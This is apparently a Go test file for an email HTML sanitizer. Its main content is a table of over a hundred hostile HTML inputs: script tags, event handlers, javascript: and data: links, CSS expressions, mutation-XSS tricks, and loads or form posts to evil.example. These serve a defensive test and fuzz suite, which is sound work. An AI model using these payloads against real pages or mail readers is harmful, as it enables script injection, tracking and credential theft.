package mime

import (
	"net/url"
	"regexp"
	"strings"
	"testing"

	"golang.org/x/net/html"
)

// hostileHTML are the known ways to run a script in a reader's page, to load
// something without a click, to send a form, or to leave the place where the
// mail is shown.
var hostileHTML = []struct{ name, html string }{
	{"script", "<script>alert(1)</script>"},
	{"script, mixed case", "<ScRiPt SRC=//evil.example/x.js></sCrIpT>"},
	{"script in script", "<scr<script>ipt>alert(1)</scr</script>ipt>"},
	{"script that never ends", "<script>alert(1)"},
	{"script behind a NUL", "<scr\x00ipt>alert(1)</scr\x00ipt>"},
	{"script behind a slash", "<script/src=//evil.example/x.js>"},
	{"script in a comment that ends early", "<!--><script>alert(1)</script>-->"},
	{"script in a comment that ends strangely", "<!-- --!><script>alert(1)</script>"},
	{"script in CDATA", "<![CDATA[<script>alert(1)</script>]]>"},
	{"script in a processing instruction", "<?xml version=1?><script>alert(1)</script>"},
	{"script in a conditional comment", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->"},
	{"event of an image", "<img src=x onerror=alert(1)>"},
	{"event behind a slash", "<img/src=x/onerror=alert(1)>"},
	{"event behind a form feed", "<img\x0csrc=x\x0conerror=alert(1)>"},
	{"event without space", `<img src="x"onerror="alert(1)">`},
	{"event with a back quote", "<img src=`x`onerror=alert(1)>"},
	{"event of the body", "<body onload=alert(1) background=https://evil.example/x>"},
	{"event of details", "<details open ontoggle=alert(1)>x</details>"},
	{"event of a paragraph", `<p onmouseover="alert(1)" OnClick='alert(1)'>x</p>`},
	{"event on an animation", `<div style="animation:x 1s" onanimationstart=alert(1)>x</div>`},
	{"event in a title", `<p title='"><img src=x onerror=alert(1)>'>x</p>`},
	{"javascript link", "<a href=javascript:alert(1)>x</a>"},
	{"javascript link, mixed case", "<a href='JaVaScRiPt:alert(1)'>x</a>"},
	{"javascript link with entities", "<a href='&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)'>x</a>"},
	{"javascript link with entities in hex, no semicolons", "<a href='&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61lert(1)'>x</a>"},
	{"javascript link with a named colon", "<a href='javascript&colon;alert(1)'>x</a>"},
	{"javascript link with a tab", "<a href='java&Tab;script:alert(1)'>x</a>"},
	{"javascript link with line ends", "<a href='java\nscript\r:alert(1)'>x</a>"},
	{"javascript link behind control characters", "<a href='\x01\x02 \x1fjavascript:alert(1)'>x</a>"},
	{"javascript link behind a NUL", "<a href='java\x00script:alert(1)'>x</a>"},
	{"javascript link behind bidi marks", "<a href='\u202ejavascript:alert(1)'>x</a>"},
	{"vbscript link", "<a href='vbscript:msgbox(1)'>x</a>"},
	{"data link", "<a href='data:text/html,<script>alert(1)</script>'>x</a>"},
	{"data link in base64", "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>"},
	{"file link", "<a href='file:///etc/passwd'>x</a>"},
	{"blob, filesystem, about and view-source links", "<a href=blob:x>a</a><a href=filesystem:x>b</a><a href=about:blank>c</a><a href='view-source:x'>d</a>"},
	{"a link of this site", "<a href='/cases/1/close'>a</a><a href='//evil.example'>b</a><a href='?x'>c</a><a href='#x'>d</a><a href='../x'>e</a>"},
	{"a link with a feed before it", "<a href='feed:javascript:alert(1)'>x</a>"},
	{"a link with a target of its own", "<a href='https://a.example' target=_top rel=opener ping='https://evil.example/p' download=x>x</a>"},
	{"a javascript image", "<img src='javascript:alert(1)'><img dynsrc='javascript:alert(1)' lowsrc='javascript:alert(1)'>"},
	{"a data image", "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'>"},
	{"a remote image", "<img src='https://evil.example/pixel.png'>"},
	{"a remote image without a scheme", "<img src='//evil.example/pixel.png'>"},
	{"an image of this site", "<img src='/sign-out'>"},
	{"a set of images", "<img srcset='https://evil.example/1.png 1x, https://evil.example/2.png 2x' sizes=100vw><picture><source srcset='https://evil.example/p.png'><img src=x></picture>"},
	{"an image that is loaded by cid and more", "<img src='cid:a\" onerror=\"alert(1)'>"},
	{"backgrounds", "<table background='https://evil.example/a'><tr background='https://evil.example/b'><td background='javascript:alert(1)'>x</td></tr></table>"},
	{"a background of a style", `<div style="background:url(https://evil.example/x)">x</div>`},
	{"a background of a style, with entities", `<div style="background-image:&#117;rl(&quot;https://evil.example/x&quot;)">x</div>`},
	{"a background of a style, escaped", `<div style="background:\75\72\6c(https://evil.example/x)">x</div>`},
	{"a background of a style, with comments", `<div style="background:u/**/rl(https://evil.example/x);color:r/**/ed">x</div>`},
	{"an image set of a style", `<div style="background:image-set('https://evil.example/x' 1x)">x</div>`},
	{"an expression", `<div style="width:expression(alert(1))">x</div>`},
	{"an expression, with comments", `<div style="color:exp/*x*/ression(alert(1))">x</div>`},
	{"an expression, escaped", `<div style="color:\65xpression(alert(1))">x</div>`},
	{"a behaviour", `<div style="behavior:url(x.htc);-moz-binding:url(https://evil.example/x.xml#x)">x</div>`},
	{"an import in a style", `<div style="@import 'https://evil.example/x.css'">x</div>`},
	{"an import", "<style>@import url(https://evil.example/x.css);</style>"},
	{"a style with a break in it", "<style>x{}</style\n><img src=x onerror=alert(1)>"},
	{"a style that never ends", "<style><!--</style><img src=x onerror=alert(1)>--></style>"},
	{"a position over the page", `<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999;opacity:0">x</div>`},
	{"a position, escaped", `<div style="posit\69on:fixed">x</div>`},
	{"a margin out of its place", `<div style="margin-top:-500px;transform:scale(99);float:left">x</div>`},
	{"a variable of a style", `<div style="--x:url(https://evil.example);color:var(--x)">x</div>`},
	{"a cursor and a list image", `<ul style="cursor:url(https://evil.example/c),auto;list-style-image:url(https://evil.example/l)"><li>x</ul>`},
	{"a font", `<p style="font:12px/1 url(https://evil.example/f);font-family:'</style><script>alert(1)</script>'">x</p>`},
	{"a style of quotes", `<p style='color:red";background:url(https://evil.example)'>x</p>`},
	{"a link element", "<link rel=stylesheet href=https://evil.example/x.css><link rel=prefetch href=https://evil.example/p><link rel=dns-prefetch href=//evil.example>"},
	{"a base", "<base href=https://evil.example/><a href=x>x</a>"},
	{"a refresh", "<meta http-equiv=refresh content='0;url=https://evil.example'>"},
	{"a policy of its own", "<meta http-equiv=Content-Security-Policy content=\"script-src *\"><meta charset=utf-7>"},
	{"a form", "<form action=https://evil.example method=post><input name=password type=password autofocus onfocus=alert(1)><button formaction=javascript:alert(1)>x</button></form>"},
	{"controls of another form", "<input form=reply name=text value=x><button form=reply>x</button><textarea form=reply>x</textarea><select form=reply><option>x</select>"},
	{"an input of an image", "<input type=image src=https://evil.example/x onerror=alert(1)>"},
	{"a keygen, an output and a progress", "<keygen autofocus onfocus=alert(1)><output onforminput=alert(1)>x</output><progress>x</progress>"},
	{"frames", "<iframe src=javascript:alert(1)></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe><frameset><frame src=javascript:alert(1)></frameset>"},
	{"objects", "<object data=javascript:alert(1)><param name=x value=y></object><embed src=javascript:alert(1)><applet code=x></applet>"},
	{"svg", "<svg onload=alert(1)><script>alert(1)</script><a xlink:href=javascript:alert(1)><text>x</text></a><use href='data:image/svg+xml,x#x'/></svg>"},
	{"svg, animated", "<svg><animate onbegin=alert(1) attributeName=x dur=1s><set attributeName=href to=javascript:alert(1)></svg>"},
	{"svg with foreign content", "<svg><foreignObject><body onload=alert(1)><img src=x onerror=alert(1)></foreignObject></svg>"},
	{"svg with a style", "<svg><style><img src=x onerror=alert(1)></style></svg>"},
	{"math", "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math><math href=javascript:alert(1)>x</math>"},
	{"media", "<video src=x onerror=alert(1) poster=https://evil.example/p autoplay></video><audio src=https://evil.example/a autoplay></audio><track src=https://evil.example/t>"},
	{"templates, slots and shadows", "<template shadowrootmode=open><script>alert(1)</script></template><slot name=x>x</slot>"},
	{"custom elements", "<x-evil onclick=alert(1)>x</x-evil><evil:tag>x</evil:tag>"},
	{"ids and names of the page", `<div id=reply name=getElementById class="button">x</div><a name=location href=https://a.example>x</a><img name=body src=cid:x>`},
	{"data for scripts", `<div data-action=close data-src="javascript:alert(1)" data-turbo=true hx-get=/x x-on:click=alert(1)>x</div>`},
	{"a tab stop, an access key, an edit", "<div tabindex=1 accesskey=x contenteditable autofocus draggable=true popover>x</div>"},
	{"aria that speaks for the page", `<div role=alert aria-label="Signed out: type your password">x</div>`},
	{"end tags of the page around it", "</div></div></section></main></body></html><script>alert(1)</script><p>x"},
	{"end tags of a table around it", "</td></tr></table><p>x</p><table><tr><td>y"},
	{"elements that stay open", "<div><table><tr><td><b><i><a href='https://a.example'>x"},
	{"a comment that stays open", "x<!-- "},
	{"an attribute that stays open", `x<p title="`},
	{"a tag that stays open", `x<p title=a `},
	{"plain text that never ends", "<plaintext><script>alert(1)</script>"},
	{"text areas and titles", "<textarea></textarea><script>alert(1)</script><title></title><script>alert(2)</script>"},
	{"xmp, listing, noembed, noframes", "<xmp><script>alert(1)</script></xmp><listing><img src=x onerror=alert(1)></listing><noembed><img src=x onerror=alert(1)></noembed><noframes><img src=x onerror=alert(1)></noframes>"},
	{"mutation by math and style", `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`},
	{"mutation by form and math", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>"},
	{"mutation by svg and p", `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`},
	{"mutation by noscript", `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`},
	{"mutation by a comment in svg", `<svg><!--<p title="--><img src=x onerror=alert(1)>">`},
	{"mutation by desc and namespaces", `<svg><desc><math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math></desc></svg>`},
	{"mutation by select", "<select><style></select><img src=x onerror=alert(1)></style>"},
	{"mutation by a table in a link", `<a href="https://a.example"><table><a href="javascript:alert(1)"></table>x`},
	{"mutation by back quotes", "<img alt=\"`><script>alert(1)</script>\" src=cid:x>"},
	{"mutation by entities", "&lt;script&gt;alert(1)&lt;/script&gt;&amp;lt;img src=x onerror=alert(1)&amp;gt;"},
	{"mutation by a template and a table", "<table><template><tr><td><script>alert(1)</script></template></table>"},
	{"UTF-7", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-"},
	{"overlong UTF-8", "\xc0\xbcscript\xc0\xbealert(1)\xc0\xbc/script\xc0\xbe"},
	{"half width signs", "＜script＞alert(1)＜/script＞"},
	{"an image map", "<img usemap=#m src=cid:x><map name=m><area href=javascript:alert(1) shape=rect coords=0,0,999,999></map>"},
	{"a marquee and a blink", "<marquee onstart=alert(1)>x</marquee><blink>x</blink>"},
	{"a dialog and a menu", "<dialog open>x</dialog><menu>x</menu><summary>x</summary>"},
	{"attributes of another namespace", `<p xmlns:x="http://www.w3.org/1999/xlink" x:href="javascript:alert(1)" xlink:href="javascript:alert(1)" xml:base="javascript:alert(1)">x</p>`},
	{"citations", "<blockquote cite='javascript:alert(1)'>x</blockquote><q cite='javascript:alert(1)'>y</q><del cite='javascript:alert(1)'>z</del>"},
	{"great spans", "<table><tr><td colspan=999999999 rowspan=999999999>x</td></tr></table>"},
	{"a colour that is none", `<font color="red;background:url(https://evil.example)" size="expression(1)" face="x">x</font>`},
	{"a manifest, a profile and a longdesc", `<html manifest=https://evil.example/m><head profile=https://evil.example/p></head><img longdesc=javascript:alert(1) src=cid:x>`},
}

// What may be left, written down a second time and by hand.
var (
	mayStay = set("p div span br hr b strong i em u s strike del ins sub sup small big code pre tt kbd samp blockquote q cite abbr " +
		"h1 h2 h3 h4 h5 h6 ul ol li dl dt dd center font address table caption thead tbody tfoot tr td th colgroup col a img " +
		"figure figcaption section article header footer main wbr")
	attributesThatMayStay = set("align valign dir width height bgcolor color size border cellpadding cellspacing colspan rowspan span start type lang title alt " +
		"href src data-src style rel target")
	plainStyle = regexp.MustCompile(`^((color|background-color|font-weight|font-style|text-decoration|text-align|vertical-align|white-space):[a-z0-9 #%.,-]*(rgba?\([0-9., %]*\))?;)*$`)
	plainWords = regexp.MustCompile(`^[a-zA-Z0-9 #%.-]{1,40}$`)
)

// checkHTML holds what R23 says of cleaned HTML, by a browser's eyes: parsed as
// a part of a page, it has only elements and attributes of the list, loads
// nothing by itself, runs nothing, and ends where the page's own element ends.
func checkHTML(t testing.TB, s string) {
	t.Helper()
	if again := policy().Sanitize(s); again != s {
		t.Errorf("R23: not what the policy leaves\n got %.300q\nthen %.300q", s, again)
	}
	const before, after = `<!DOCTYPE html><html><body><main data-page><div data-mail>`, `</div><p data-after>after</p></main></body></html>`
	doc, err := html.Parse(strings.NewReader(before + s + after))
	if err != nil {
		t.Fatalf("%v in %.200q", err, s)
	}
	has := func(n *html.Node, key string) bool {
		for _, a := range n.Attr {
			if a.Key == key {
				return true
			}
		}
		return false
	}
	var mail, end *html.Node
	for n := range doc.Descendants() {
		switch {
		case n.Type == html.ElementNode && has(n, "data-mail"):
			mail = n
		case n.Type == html.ElementNode && has(n, "data-after"):
			end = n
		}
	}
	if mail == nil || end == nil || end.Parent != mail.Parent || mail.NextSibling != end || end.NextSibling != nil || end.FirstChild == nil || end.FirstChild.Data != "after" {
		t.Errorf("R23: it leaves its place: %.300q", s)
		return
	}
	for n := range mail.Descendants() {
		switch {
		case n.Type == html.CommentNode:
			t.Errorf("R23: a comment in %.300q", s)
		case n.Type != html.ElementNode:
		case n.Namespace != "" || !mayStay[n.Data]:
			t.Errorf("R23: <%s %s> in %.300q", n.Namespace, n.Data, s)
		default:
			for _, a := range n.Attr {
				checkAttribute(t, n.Data, a)
			}
		}
	}
}

func checkAttribute(t testing.TB, element string, a html.Attribute) {
	t.Helper()
	ok := true
	switch a.Key {
	case "title", "alt":
	case "href":
		ok = element == "a" && safeLink(a.Val, "http", "https", "mailto", "cid")
	case "src":
		ok = element == "img" && safeLink(a.Val, "cid")
	case "data-src":
		ok = element == "img" && safeLink(a.Val, "http", "https")
	case "style":
		ok = plainStyle.MatchString(a.Val)
	case "rel":
		ok = element == "a" && strings.Contains(a.Val, "nofollow") && !strings.Contains(a.Val, "opener ") && a.Val != "opener"
	case "target":
		ok = element == "a" && a.Val == "_blank"
	default:
		ok = plainWords.MatchString(a.Val)
	}
	if !ok || !attributesThatMayStay[a.Key] || a.Namespace != "" {
		t.Errorf("R23: <%s %s=%.200q>", element, a.Key, a.Val)
	}
}

// safeLink reads an address as browsers do: without control characters, and
// without space around it.
func safeLink(s string, schemes ...string) bool {
	s = strings.Map(func(r rune) rune {
		if r < ' ' || r == 127 {
			return -1
		}
		return r
	}, strings.TrimSpace(s))
	u, err := url.Parse(s)
	if err != nil {
		scheme, _, _ := strings.Cut(s, ":")
		u = &url.URL{Scheme: lower(scheme)}
	}
	for _, scheme := range schemes {
		if lower(u.Scheme) == scheme {
			return true
		}
	}
	return false
}

func TestClean_hostile(t *testing.T) {
	for _, h := range hostileHTML {
		t.Run("R23/"+h.name, func(t *testing.T) {
			for _, around := range [][2]string{{"", ""}, {"<p>before</p>", "<p>behind</p>"}, {"<table><tr><td>", "</td></tr></table>"}, {"<a href='https://a.example'>", "</a>"}, {"<!-- -->", ""}} {
				m := read("Content-Type: text/html; charset=utf-8\r\n\r\n" + around[0] + h.html + around[1])
				checkClean(t, m)
			}
		})
	}
}

// What people need of a mail's looks stays.
func TestClean_keeps(t *testing.T) {
	for name, c := range map[string][2]string{
		"words and marks":           {`<p>a <b>b</b> <i>c</i><br>d</p>`, `<p>a <b>b</b> <i>c</i><br/>d</p>`},
		"a link":                    {`<a href="https://a.example/x?a=1&b=2">x</a>`, `<a href="https://a.example/x?a=1&amp;b=2" rel="nofollow noreferrer noopener" target="_blank">x</a>`},
		"a mail address":            {`<a href="mailto:a@b.example">x</a>`, `<a href="mailto:a@b.example" rel="nofollow noreferrer">x</a>`},
		"a picture of the mail":     {`<img src="cid:a@b" alt="x" width=10>`, `<img src="cid:a@b" alt="x" width="10"/>`},
		"a remote picture to ask":   {`<img src="https://a.example/i.png">`, `<img data-src="https://a.example/i.png"/>`},
		"colours":                   {`<span style="color:#ff0000;background-color:rgb(1, 2, 3)">x</span>`, `<span style="color:#ff0000;background-color:rgb(1, 2, 3);">x</span>`},
		"a table":                   {`<table border=1><tr><td colspan=2 align=right>x</td></tr></table>`, `<table border="1"><tbody><tr><td colspan="2" align="right">x</td></tr></tbody></table>`},
		"words of unknown elements": {`<x-y>a<z>b</z></x-y>`, `ab`},
	} {
		t.Run("R23/"+name, func(t *testing.T) {
			if got := read("Content-Type: text/html\r\n\r\n" + c[0]).HTML; got != c[1] {
				t.Errorf("got  %q\nwant %q", got, c[1])
			}
		})
	}
}

// FuzzText makes text of any HTML: valid, bounded, and the same the second time.
func FuzzText(f *testing.F) {
	for _, h := range hostileHTML {
		f.Add(h.html)
	}
	for _, s := range []string{
		`<div class="gmail_quote"><div class=gmail_attr>a:</div><blockquote>b</blockquote></div>`, `<div id=divRplyFwdMsg>a: b<br>c: d<br>e: f</div>`,
		`<table><tr><td>a<td>b<tr><td>c<td>d</table>`, `<ol start=3><li><p>a<li>b<ul><li>c</ol>`, `<p style="display:none">a</p>b`, `a<div class=gmail_signature>b</div>`,
		`<span style="mso-list:Ignore">·</span>x`, `<a href="mailto:a@b?c">d</a>`, `<blockquote style="border:none">a</blockquote>`,
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		raw := "Content-Type: text/html; charset=utf-8\r\n\r\n" + s
		m := readWith(raw, untimed)
		checkClean(t, m)
		if len(m.Text) > 64*(len(s)+100) {
			t.Errorf("%d octets of text made of %d", len(m.Text), len(s))
		}
		if again := readWith(raw, untimed); again.Text != m.Text {
			t.Errorf("%q, then %q", m.Text, again.Text)
		}
	})
}
